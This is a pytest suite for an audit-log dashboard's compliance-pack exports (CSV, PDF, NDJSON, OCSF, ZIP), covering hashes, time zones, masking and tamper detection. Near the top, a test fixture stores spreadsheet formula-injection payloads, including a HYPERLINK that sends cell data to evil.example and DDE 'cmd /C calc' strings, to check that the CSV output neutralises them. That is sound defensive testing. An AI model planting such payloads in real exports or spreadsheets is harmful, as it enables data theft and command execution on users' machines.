"""Compliance packs built from real demo data in a real DuckDB file: what an auditor would check.

The PDF's text (pdftotext) holds the filters, the period, the counts the database gives and
the section titles; the CSV has exactly the filtered events, safe for spreadsheets; the JSON
file is the event contract; every manifest hash matches its file; cancelling leaves nothing.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import subprocess
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import jsonschema
import pytest
import sqlalchemy as sa

from dashboard.access.users import Actor
from dashboard.demo import DemoSpec, generate
from dashboard.filters import Filters
from dashboard.ingest.geo import default_locator
from dashboard.ingest.pipeline import Ingestor
from dashboard.packs import charts, csvout, pdf, sections, view
from dashboard.packs.build import PackSettings, build_pack
from dashboard.packs.manifest import check_pack
from dashboard.packs.model import Control, PackCancelled, PackError, PackRequest, PackResult
from dashboard.store.db import Database
from dashboard.store.schema import events
from tests.conftest import GEO_DIR, ROOT, cli, event
from tests.pg import pg_database

END = datetime(2026, 6, 30, tzinfo=UTC)
TZ = "Europe/Berlin"
#: values a spreadsheet would run as formulas, stored in one event (the CSV must make them inert)
PAYLOADS = {
    "target_name": '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "actor_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reason": "-2+3+cmd|' /C calc'!A0",
    "target_id": "+1+1",
    "user_agent": "\tTAB=1+1",
}


@dataclass
class Demo:
    db: Database
    path: Path
    reports: Path


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Demo]:
    tmp = tmp_path_factory.mktemp("packs")
    db = Database(tmp / "demo.duckdb")
    batches, _truth = generate(DemoSpec(days=30, events=30_000, end=END))
    ingestor = Ingestor(db, default_locator(GEO_DIR), 100_000)  # placed on the map as the product does
    for batch in batches:
        ingestor.ingest_batch([(i, json.dumps(doc)) for i, doc in enumerate(batch)], "demo")
    evil = {
        "id": "evil-1",
        "occurred_at": "2026-06-20T10:00:00Z",
        "account_id": "acme-support",
        "action": "settings.update",
        "outcome": "failure",
        "reason": PAYLOADS["reason"],
        "actor": {"id": "u-evil", "name": PAYLOADS["actor_name"], "role": "agent"},
        "target": {"type": "setting", "id": PAYLOADS["target_id"], "name": PAYLOADS["target_name"]},
        "ip": "198.51.100.23",
        "user_agent": PAYLOADS["user_agent"],
        "changes": {"webhook_url": ["https://ok.example", "=cmd|' /C calc'!A0"]},
    }
    result = ingestor.ingest_batch([(0, json.dumps(evil))], "file:evil.ndjson")
    assert result.accepted == 1
    try:
        yield Demo(db, db.path, tmp / "reports")
    finally:
        db.close()


def _settings(demo: Demo, **extra: Any) -> PackSettings:
    return PackSettings(reports_dir=demo.reports, organisation="Acme Support GmbH", **extra)


def _request(filters: Filters, formats: tuple[str, ...], **extra: Any) -> PackRequest:
    values: dict[str, Any] = {"actor": Actor("cora", "compliance"), "role": "compliance", "now": END}
    values.update(extra)
    return PackRequest(filters=filters, formats=formats, **values)


def _count(db: Database, filters: Filters) -> int:
    with db.connect() as conn:
        return int(conn.execute(sa.select(sa.func.count()).where(filters.where(events, END))).scalar_one())


def _pdf_text(path: Path) -> str:
    return subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True).stdout


def _file(result: PackResult, suffix: str) -> Path:
    return next(p for p in result.paths() if p.name.endswith(suffix))


JUNE = Filters.from_query({"from": "2026-06-10", "to": "2026-06-24", "tz": TZ})
AUTH = Filters.from_query({"from": "2026-06-01", "to": "2026-06-29", "tz": TZ, "categories": "authentication"})


@pytest.fixture(scope="module")
def full_pack(demo: Demo) -> PackResult:
    return build_pack(demo.db, _settings(demo), _request(JUNE, ("pdf", "csv", "json")))


# -- CSV -----------------------------------------------------------------------------------------
def test_csv_holds_exactly_the_filtered_events_in_log_order(demo: Demo, full_pack: PackResult) -> None:
    # a byte order mark first, or Excel reads the UTF-8 text in the system's legacy code page
    assert _file(full_pack, ".csv").read_bytes()[:4] == b'\xef\xbb\xbf"'
    with _file(full_pack, ".csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    # the count the database gives for the filter, by an independent hand-written query
    start = datetime(2026, 6, 10, tzinfo=ZoneInfo(TZ)).astimezone(UTC).replace(tzinfo=None)
    end = datetime(2026, 6, 25, tzinfo=ZoneInfo(TZ)).astimezone(UTC).replace(tzinfo=None)
    with demo.db.raw() as con:
        expected = con.execute(
            "SELECT count(*) FROM events WHERE occurred_at >= ? AND occurred_at < ?", [start, end]
        ).fetchall()[0][0]
    assert len(rows) == expected == full_pack.events == _count(demo.db, JUNE) > 5_000
    assert [r.name for r in csvout.COLUMNS] == list(rows[0].keys())
    seqs = [int(r["seq"]) for r in rows]
    assert seqs == sorted(seqs)
    assert len(set(r["event_id"] for r in rows)) == len(rows)


def test_csv_timestamps_are_iso_8601_with_the_zones_offset_and_in_utc(full_pack: PackResult) -> None:
    with _file(full_pack, ".csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for row in rows[:: max(len(rows) // 500, 1)]:
        local = datetime.fromisoformat(row["occurred_at"])
        utc = datetime.fromisoformat(row["occurred_at_utc"].replace("Z", "+00:00"))
        assert local == utc
        assert local.utcoffset() == utc.astimezone(ZoneInfo(TZ)).utcoffset() == timedelta(hours=2)  # CEST in June
        assert row["occurred_at"][-6:] == "+02:00" and row["occurred_at_utc"].endswith("Z")


#: (zone, an instant near its daylight-saving change, the local time the CSV must show)
DST_CASES = [
    ("Europe/Berlin", "2026-10-25T00:59:59.999Z", "2026-10-25T02:59:59.999+02:00"),
    ("Europe/Berlin", "2026-10-25T01:00:00.000Z", "2026-10-25T02:00:00.000+01:00"),
    ("America/St_Johns", "2026-11-01T04:29:00.000Z", "2026-11-01T01:59:00.000-02:30"),
    ("America/St_Johns", "2026-11-01T04:31:00.000Z", "2026-11-01T01:01:00.000-03:30"),
    ("Asia/Kathmandu", "2026-10-25T01:00:00.000Z", "2026-10-25T06:45:00.000+05:45"),
    ("UTC", "2026-10-25T01:00:00.000Z", "2026-10-25T01:00:00.000+00:00"),
]


@pytest.fixture(scope="module", params=["duckdb", "postgres"])
def dst_db(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Database]:
    """The instants of `DST_CASES` (and one before and after) on either engine (tests/pg.py)."""
    target = tmp_path_factory.mktemp("dst") / "dst.duckdb" if request.param == "duckdb" else pg_database(request)
    db = Database(target)
    instants = sorted({"2026-10-20T12:00:00Z", "2026-11-10T12:00:00Z", *(utc for _, utc, _ in DST_CASES)})
    docs = [{"id": f"at-{t}", "occurred_at": t, "action": "auth.login", "actor": {"id": "u1"}} for t in instants]
    Ingestor(db, None).ingest_batch([(i, json.dumps(d)) for i, d in enumerate(docs)], "test")
    try:
        yield db
    finally:
        db.close()


@pytest.mark.parametrize(("tz", "utc", "local"), DST_CASES)
def test_local_times_are_exact_across_daylight_saving_changes(
    dst_db: Database, tmp_path: Path, tz: str, utc: str, local: str
) -> None:
    month = Filters.from_query({"from": "2026-10-15", "to": "2026-11-15", "tz": tz})
    result = build_pack(dst_db, PackSettings(reports_dir=tmp_path / "r"), _request(month, ("csv",)))
    with _file(result, ".csv").open(encoding="utf-8-sig", newline="") as fh:
        row = next(r for r in csv.DictReader(fh) if r["event_id"] == f"at-{utc}")
    assert (row["occurred_at_utc"], row["occurred_at"]) == (utc, local)


def test_formula_injection_payloads_come_out_inert(full_pack: PackResult) -> None:
    raw = _file(full_pack, ".csv").read_bytes().decode("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(raw, newline="")) if r["event_id"] == "evil-1")
    for column, payload in PAYLOADS.items():
        assert row[column] == "'" + payload, column
    assert row["changes"].startswith("{")  # JSON starts with a brace: nothing to neutralise
    # no cell of the whole file starts like a formula
    for record in csv.reader(io.StringIO(raw, newline="")):
        for cell in record:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_masked_pack_masks_addresses_and_names_and_leaves_out_raw_json(demo: Demo) -> None:
    result = build_pack(demo.db, _settings(demo), _request(AUTH, ("csv",), role="manager", masked=True))
    with _file(result, ".csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == _count(demo.db, AUTH)
    assert "changes" not in rows[0] and "metadata" not in rows[0]
    ips = [r["ip"] for r in rows if r["ip"]]
    assert ips and all(ip.endswith(".x") or ip.endswith("::x") for ip in ips)
    names = [r["actor_name"] for r in rows if r["actor_name"] and " " in r["actor_name"]]
    assert names and all(n.endswith(".") for n in names)  # "Ana S."
    manifest = json.loads((result.folder / "manifest.json").read_text())
    assert manifest["masked"] is True and manifest["columns_left_out"] == ["changes", "metadata"]
    with pytest.raises(PackError, match="JSON format holds the raw events"):
        _request(AUTH, ("json",), role="manager", masked=True)


# -- JSON ----------------------------------------------------------------------------------------
def test_ndjson_is_a_header_then_every_event_in_the_contract(demo: Demo, full_pack: PackResult) -> None:
    lines = _file(full_pack, ".ndjson").read_text(encoding="utf-8").splitlines()
    header = json.loads(lines[0])["auditdash_pack"]
    assert header["counts"]["events"] == len(lines) - 1 == _count(demo.db, JUNE)
    assert header["filters"]["query"] == JUNE.to_query()
    assert header["period"]["from"] == "2026-06-10T00:00:00+02:00"
    assert header["period"]["to"] == "2026-06-25T00:00:00+02:00"
    schema = json.loads((ROOT / "docs" / "event.schema.json").read_text())
    validator = jsonschema.Draft202012Validator(schema)
    for line in lines[1:]:
        doc = json.loads(line)
        errors = list(validator.iter_errors(doc))
        assert not errors, (doc, errors[0].message)
    evil = next(json.loads(line) for line in lines[1:] if '"evil-1"' in line)
    assert evil["target"]["name"] == PAYLOADS["target_name"]  # JSON keeps the value as sent
    assert evil["changes"] == {"webhook_url": ["https://ok.example", "=cmd|' /C calc'!A0"]}


# -- PDF -----------------------------------------------------------------------------------------
def test_pdf_text_holds_filters_period_counts_and_sections(demo: Demo, tmp_path: Path) -> None:
    result = build_pack(demo.db, _settings(demo), _request(AUTH, ("pdf",)))
    text = _pdf_text(_file(result, ".pdf"))
    flat = " ".join(text.split())
    assert "Audit log compliance pack" in flat and "Acme Support GmbH" in flat
    assert "2026-06-01 to 2026-06-29, Europe/Berlin, authentication events, all users" in flat
    assert "2026-06-01 00:00 to 2026-06-30 00:00 (Europe/Berlin)" in flat
    n = _count(demo.db, AUTH)
    assert f"Events in this pack {n:,}" in flat
    with demo.db.raw() as con:
        failed = con.execute(
            "SELECT count(*) FROM events WHERE category = 'authentication' AND outcome = 'failure' "
            "AND action IN ('auth.login', 'audit.login') "
            "AND occurred_at >= TIMESTAMP '2026-05-31 22:00' AND occurred_at < TIMESTAMP '2026-06-29 22:00'"
        ).fetchall()[0][0]
    assert failed > 0 and f"Failed logins {failed:,}" in flat
    for title in pdf.SECTION_TITLES.values():
        if title != pdf.SECTION_TITLES["alerts"] or sa.inspect(demo.db.engine).has_table("alerts"):
            assert title in flat, title
    for requirement in ("PCI DSS 10.2.1", "PCI DSS 10.2.2", "SOC 2 CC7.2", "A.8.15"):
        assert requirement in flat
    pages = int(flat.split("Page 1 of ")[1].split()[0])
    assert pages >= 5 and f"Page {pages} of {pages}" in flat
    assert "generated by" not in flat.lower() or "cora (compliance)" in flat
    assert "Integrity of the log" in flat


def _images(path: Path) -> list[tuple[int, int]]:
    """(width, height) in pixels of every image in a PDF (poppler's pdfimages)."""
    listing = subprocess.run(["pdfimages", "-list", str(path)], capture_output=True, text=True, check=True).stdout
    return [(int(line.split()[3]), int(line.split()[4])) for line in listing.splitlines()[2:]]


def test_pdf_maps_where_activity_comes_from(demo: Demo, full_pack: PackResult) -> None:
    path = _file(full_pack, ".pdf")
    flat = " ".join(_pdf_text(path).split())
    # what the map places, counted by a query of our own: events with a city's coordinates, and
    # events with only a country
    start = datetime(2026, 6, 10, tzinfo=ZoneInfo(TZ)).astimezone(UTC).replace(tzinfo=None)
    end = datetime(2026, 6, 25, tzinfo=ZoneInfo(TZ)).astimezone(UTC).replace(tzinfo=None)
    with demo.db.raw() as con:
        placed, country_only = con.execute(
            "SELECT count(*) FILTER (WHERE geo_lat IS NOT NULL), "
            "count(*) FILTER (WHERE geo_lat IS NULL AND geo_country IS NOT NULL) "
            "FROM events WHERE occurred_at >= ? AND occurred_at < ?",
            [start, end],
        ).fetchall()[0]
    assert placed > 1_000
    assert "Where activity comes from" in flat
    note = f"{placed:,} events placed at city level"
    if country_only:
        note += f"; {country_only:,} at country level only (shaded)"
    assert note + ". Internal and unknown addresses are not on the map." in flat
    # the map itself: an image of the chart's size (1000 x 480 at 1.6 times), drawn offline
    assert (1600, 768) in _images(path)
    assert "could not be drawn" not in flat


def test_a_map_that_cannot_be_drawn_leaves_the_other_charts(
    demo: Demo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    broken = tmp_path / "topojson"
    broken.mkdir()
    (broken / "world_110m.json").write_text("not topojson")
    monkeypatch.setattr(charts, "TOPOJSON_DIR", broken)
    result = build_pack(demo.db, _settings(demo), _request(JUNE, ("pdf",)))
    path = _file(result, ".pdf")
    flat = " ".join(_pdf_text(path).split())
    assert "Some charts could not be drawn on this server (the map)" in flat
    assert "The map could not be drawn on this server; what it shows is counted here." in flat
    assert "events placed at city level" in flat
    sizes = _images(path)
    assert (1600, 768) not in sizes and (1600, 672) in sizes  # no map; the timeline is there


def test_masked_packs_map_data_holds_no_full_address(demo: Demo) -> None:
    from dashboard.store import analytics

    with demo.db.connect() as conn:
        av = analytics.View.of(JUNE, END)
        full = sections.map_data(conn, av, masked=False)
        masked = sections.map_data(conn, av, masked=True)
    assert masked.placed == full.placed > 0
    shown = [ip for ip in masked.points["top_ip"] if ip]
    assert shown and all(ip.endswith(".x") or ip.endswith("::x") for ip in shown)
    assert not set(shown) & set(full.points["top_ip"])


def test_pdf_says_when_nothing_can_be_mapped(tmp_path: Path) -> None:
    docs = [
        event(id=f"office-{i}", occurred_at=f"2026-06-1{i}T09:00:00Z", ip=f"10.20.0.{i}", actor={"id": f"u{i}"})
        for i in range(1, 4)
    ]
    with Database(tmp_path / "office.duckdb") as db:
        stored = Ingestor(db, default_locator(GEO_DIR)).ingest_batch(
            [(i, json.dumps(d)) for i, d in enumerate(docs)], "test"
        )
        assert stored.accepted == 3  # agents on the office network: internal addresses, never looked up
        settings = PackSettings(reports_dir=tmp_path / "reports", organisation="Acme Support GmbH")
        result = build_pack(db, settings, _request(JUNE, ("pdf",)))
    assert result.events == 3
    path = _file(result, ".pdf")
    flat = " ".join(_pdf_text(path).split())
    assert "Where activity comes from" in flat
    assert "No event of this view has an address that can be placed on a map." in flat
    assert (1600, 768) not in _images(path)


def test_long_pdf_tables_are_capped_with_a_note_pointing_to_the_csv(
    demo: Demo, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sections, "MAX_TABLE_ROWS", 3)
    result = build_pack(demo.db, _settings(demo), _request(JUNE, ("pdf", "csv")))
    flat = " ".join(_pdf_text(_file(result, ".pdf")).split())
    assert "Showing the 3 most recent of" in flat
    assert "the CSV file of this pack has every event" in flat


def test_pdf_repeats_table_headers_on_every_page(demo: Demo, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sections, "MAX_TABLE_ROWS", 10_000)
    wide = Filters.from_query({"from": "2026-06-01", "to": "2026-06-29", "tz": TZ, "categories": "settings,automation"})
    result = build_pack(demo.db, _settings(demo), _request(wide, ("pdf",)))
    pages = _pdf_text(_file(result, ".pdf")).split("\f")
    config_pages = [p for p in pages if "settings.update" in p]
    assert len(config_pages) >= 2
    assert all("Before" in p and "Who" in p for p in config_pages)


# -- manifest and ZIP ------------------------------------------------------------------------------
def test_every_manifest_hash_matches_its_file(full_pack: PackResult) -> None:
    manifest = json.loads((full_pack.folder / "manifest.json").read_text())
    assert {f["kind"] for f in manifest["files"]} == {"pdf", "csv", "json"}
    for entry in manifest["files"]:
        data = (full_pack.folder / entry["name"]).read_bytes()
        assert hashlib.sha256(data).hexdigest() == entry["sha256"]
        assert len(data) == entry["size"]
    assert manifest["counts"]["csv_rows"] == manifest["counts"]["json_rows"] == full_pack.events
    assert manifest["filters"]["words"].startswith("2026-06-10 to 2026-06-24, Europe/Berlin")
    assert manifest["time_zone"] == TZ and manifest["generated_by"] == "cora"
    head = manifest["integrity"]["period_chain_head"]
    assert head and len(head["hash"]) == 64
    assert check_pack(full_pack.folder) == []


def test_ocsf_file_holds_every_event_of_the_view_for_a_siem(demo: Demo, full_pack: PackResult) -> None:
    result = build_pack(demo.db, _settings(demo), _request(JUNE, ("ocsf",)))
    path = _file(result, ".ocsf.ndjson")
    docs = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert len(docs) == result.events == full_pack.events > 5_000
    with _file(full_pack, ".csv").open(encoding="utf-8-sig", newline="") as fh:
        ids = [r["event_id"] for r in csv.DictReader(fh)]
    assert [d["metadata"]["uid"] for d in docs] == ids  # the same events, in the same order
    assert {d["class_uid"] for d in docs} <= {3001, 3002, 3005, 3006, 6003}
    logins = [d for d in docs if d["unmapped"]["action"] == "auth.login"]
    assert logins and all(d["class_uid"] == 3002 and d["activity_id"] == 1 for d in logins)
    assert all(d["type_uid"] == d["class_uid"] * 100 + d["activity_id"] for d in docs)
    manifest_entry = next(f for f in result.manifest["files"] if f["kind"] == "ocsf")
    assert manifest_entry["rows"] == len(docs)
    assert manifest_entry["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()
    assert check_pack(result.folder) == []
    with pytest.raises(PackError, match="OCSF format holds the raw events"):
        _request(AUTH, ("ocsf",), role="manager", masked=True)


def test_zip_holds_the_files_and_the_manifest_and_its_hashes_match(demo: Demo) -> None:
    result = build_pack(demo.db, _settings(demo), _request(AUTH, ("zip",)))
    assert [p.name for p in result.paths()][-1] == "manifest.json" and result.paths()[0].suffix == ".zip"
    outer = json.loads((result.folder / "manifest.json").read_text())
    with zipfile.ZipFile(result.paths()[0]) as zf:
        names = set(zf.namelist())
        inner = json.loads(zf.read("manifest.json"))
        for entry in inner["files"]:
            assert hashlib.sha256(zf.read(entry["name"])).hexdigest() == entry["sha256"]
    assert names == {f["name"] for f in inner["files"]} | {"manifest.json"}
    assert {f["kind"] for f in inner["files"]} == {"pdf", "csv", "json", "proof", "proof_lines", "script"}
    assert hashlib.sha256(result.paths()[0].read_bytes()).hexdigest() == outer["archive"]["sha256"]
    assert check_pack(result.folder) == []
    (result.folder / "manifest.json").write_text(
        json.dumps({**outer, "files": [{**outer["files"][0], "sha256": "0" * 64}]})
    )
    assert check_pack(result.folder) == [f"{outer['files'][0]['name']}: SHA-256 differs from the manifest"]


# -- streaming, cancelling, recording ---------------------------------------------------------------
def test_small_chunks_stream_the_same_rows(demo: Demo, monkeypatch: pytest.MonkeyPatch, full_pack: PackResult) -> None:
    monkeypatch.setattr(view, "CHUNK_SEQ", 777)
    monkeypatch.setattr(view, "BATCH_ROWS", 100)
    again = build_pack(demo.db, _settings(demo), _request(JUNE, ("csv",)))
    new_rows = _file(again, ".csv").read_text(encoding="utf-8-sig").splitlines()
    old_rows = _file(full_pack, ".csv").read_text(encoding="utf-8-sig").splitlines()
    assert new_rows == old_rows


def test_cancel_stops_the_pack_and_leaves_no_files(demo: Demo) -> None:
    seen: list[str] = []

    def progress(stage: str, _fraction: float) -> None:
        seen.append(stage)
        if stage.startswith("CSV"):
            control.cancel()

    control = Control(progress)
    demo.reports.mkdir(parents=True, exist_ok=True)
    before = set(demo.reports.iterdir())
    with pytest.raises(PackCancelled):
        build_pack(demo.db, _settings(demo), _request(JUNE, ("csv", "json")), control)
    assert any(s.startswith("CSV") for s in seen)
    assert set(demo.reports.iterdir()) == before
    with demo.db.connect() as conn:
        reasons = conn.execute(
            sa.select(events.c.reason).where(events.c.action == "audit.export", events.c.outcome == "failure")
        ).scalars()
        assert "cancelled by the user" in list(reasons)


def test_every_pack_is_recorded_in_the_audit_log(demo: Demo) -> None:
    result = build_pack(demo.db, _settings(demo), _request(AUTH, ("csv",)))
    with demo.db.connect() as conn:
        row = (
            conn.execute(
                sa.select(events.c.action, events.c.actor_id, events.c.actor_role, events.c.metadata).where(
                    events.c.target_id == result.pack_id
                )
            )
            .mappings()
            .one()
        )
    assert row["action"] == "audit.export" and row["actor_id"] == "cora" and row["actor_role"] == "compliance"
    meta = json.loads(row["metadata"])
    assert meta["events"] == result.events and meta["filters"] == AUTH.to_query()
    assert meta["rows"] == {_file(result, ".csv").name: result.events}


# -- the command line ------------------------------------------------------------------------------
def test_cli_report_builds_a_pack_with_the_url_vocabulary(demo: Demo, tmp_path: Path) -> None:
    copy = tmp_path / "cli.duckdb"
    with demo.db.raw() as con:
        con.execute("CHECKPOINT")
    copy.write_bytes(demo.path.read_bytes())
    out = tmp_path / "out"
    args = ["report", "--db", str(copy), "--from", "2026-06-01", "--to", "2026-06-29", "--tz", TZ]
    proc = cli(*args, "--categories", "authentication", "--format", "pdf,csv,json", "--out", str(out), "--json")
    summary = json.loads(proc.stdout)
    assert summary["events"] == _count(demo.db, AUTH)
    assert [Path(f).suffix for f in summary["files"]] == [".pdf", ".csv", ".ndjson", ".json"]
    assert all(Path(f).exists() for f in summary["files"])
    assert summary["filters"] == "2026-06-01 to 2026-06-29, Europe/Berlin, authentication events, all users"
    assert check_pack(Path(summary["folder"])) == []
    bad = cli("report", "--db", str(copy), "--outcome", "maybe", check=False)
    assert bad.returncode == 2 and "outcome='maybe' is not one of" in bad.stderr
    bad = cli("report", "--db", str(copy), "--format", "docx", check=False)
    assert bad.returncode == 2 and "unknown format docx" in bad.stderr
    # a time of day, local to the pack's zone: Tuesdays between 14:00 and 15:00 in Berlin
    proc = cli(*args, "--weekdays", "2", "--hours", "14", "--format", "csv", "--out", str(out), "--json")
    summary = json.loads(proc.stdout)
    assert "Tuesdays, 14:00-15:00" in summary["filters"]
    csv_file = next(Path(f) for f in summary["files"] if f.endswith(".csv"))
    with csv_file.open(encoding="utf-8-sig", newline="") as fh:
        stamps = [datetime.fromisoformat(r["occurred_at"]) for r in csv.DictReader(fh)]
    assert len(stamps) == summary["events"] > 0
    assert {(t.isoweekday(), t.hour) for t in stamps} == {(2, 14)}
    bad = cli("report", "--db", str(copy), "--weekdays", "9", check=False)
    assert bad.returncode == 2 and "weekdays='9' is not a weekday" in bad.stderr


def test_an_empty_view_gives_a_valid_empty_pack(demo: Demo) -> None:
    empty = Filters.from_query({"from": "2020-01-01", "to": "2020-01-02", "tz": TZ})
    result = build_pack(demo.db, _settings(demo), _request(empty, ("pdf", "csv", "json")))
    assert result.events == 0
    assert _file(result, ".csv").read_text(encoding="utf-8-sig").splitlines() == [
        ",".join(f'"{c.name}"' for c in csvout.COLUMNS)
    ]
    (header,) = _file(result, ".ndjson").read_text(encoding="utf-8").splitlines()
    assert json.loads(header)["auditdash_pack"]["counts"]["events"] == 0
    flat = " ".join(_pdf_text(_file(result, ".pdf")).split())
    assert "Events in this pack 0" in flat and "No role or permission changes in this view." in flat
    assert check_pack(result.folder) == []


def test_a_tampered_log_is_reported_broken_on_the_cover(tmp_path: Path) -> None:
    db = Database(tmp_path / "tampered.duckdb")
    try:
        batches, _ = generate(DemoSpec(days=3, events=2_000, end=END, incidents=False))
        ingestor = Ingestor(db, None)
        for batch in batches:
            ingestor.ingest_batch([(i, json.dumps(doc)) for i, doc in enumerate(batch)], "demo")
        settings = PackSettings(reports_dir=tmp_path / "reports")
        week = Filters.from_query({"from": "2026-06-20", "to": "2026-06-30"})
        intact = build_pack(db, settings, _request(week, ("pdf",)))
        assert intact.manifest["integrity"]["state"] == "verified"
        assert "VERIFIED" in _pdf_text(_file(intact, ".pdf"))
        with db.raw() as con:  # someone edits an event behind auditdash's back
            con.execute("UPDATE events SET actor_name = 'Someone Else' WHERE seq = 100")
        broken = build_pack(db, settings, _request(week, ("pdf",)))
        assert broken.manifest["integrity"]["state"] == "broken"
        flat = " ".join(_pdf_text(_file(broken, ".pdf")).split())
        assert "BROKEN" in flat and "altered at seq 100" in flat
    finally:
        db.close()


def test_alerts_and_their_review_are_in_the_pdf(demo: Demo) -> None:
    """Runs the detection rules over the demo's planted incidents, reviews one alert, and reads the PDF."""
    from dashboard.config import Settings
    from dashboard.detect.service import build_service

    service = build_service(demo.db, Settings(db_path=demo.path))
    service.alerts.notify = None
    service.run_all()
    alerts = service.alerts.list()
    assert alerts, "the demo's planted incidents raise alerts"
    first = alerts[0]
    service.alerts.act(int(first["id"]), "resolve", "cora", "compliance", resolution="true_positive", note="checked")
    month = Filters.from_query({"from": "2026-05-25", "to": "2026-06-30", "tz": TZ})
    result = build_pack(demo.db, _settings(demo), _request(month, ("pdf",)))
    flat = " ".join(_pdf_text(_file(result, ".pdf")).split())
    assert "Alerts and their review" in flat
    assert "alerts were active during the period" in flat and "resolved" in flat
    assert str(first["title"]) in flat and "resolved cora" in flat and "true positive" in flat


def test_the_docs_describe_every_csv_column_and_section() -> None:
    doc = (ROOT / "docs" / "packs.md").read_text(encoding="utf-8")
    for column in csvout.COLUMNS:
        assert f"| `{column.name}` | {column.description} |" in doc, column.name
    for title in pdf.SECTION_TITLES.values():
        assert title in doc, title
    for requirement, _asks, _where in pdf.COMPLIANCE_MAPPING:
        assert requirement in doc, requirement
